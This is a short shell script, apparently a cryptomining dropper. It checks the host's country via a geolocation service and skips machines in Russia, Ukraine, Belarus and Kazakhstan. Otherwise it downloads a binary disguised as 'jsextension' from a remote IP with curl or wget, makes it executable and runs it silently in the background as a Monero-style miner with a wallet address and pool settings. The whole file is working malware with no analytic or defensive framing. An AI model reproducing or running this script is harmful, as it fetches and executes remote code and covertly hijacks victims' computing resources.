#!/bin/sh
cd "$(dirname "$0")"
IP=$(curl -k -s https://freegeoip.app/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]; then
    var=$(pgrep jsextension)
    if [ -z "$var" ]; then
        curl -s http://198.51.100.14/download/jsextension -o jsextension
        if [ ! -f jsextension ]; then
            wget -q http://198.51.100.14/download/jsextension -O jsextension
        fi
        chmod +x jsextension
        ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u 45TmACtU38aYqHnUmxfYUYDv6PLDfBmmsRJVnsF14HUzyQAYNigqPJZXSwz2XLtHkffxnRGmQWHm4NiLVPgWNQaFS8k8cGZ --cpu-max-threads-hint=50 --donate-level=1 --background >/dev/null 2>&1 &
    fi
fi
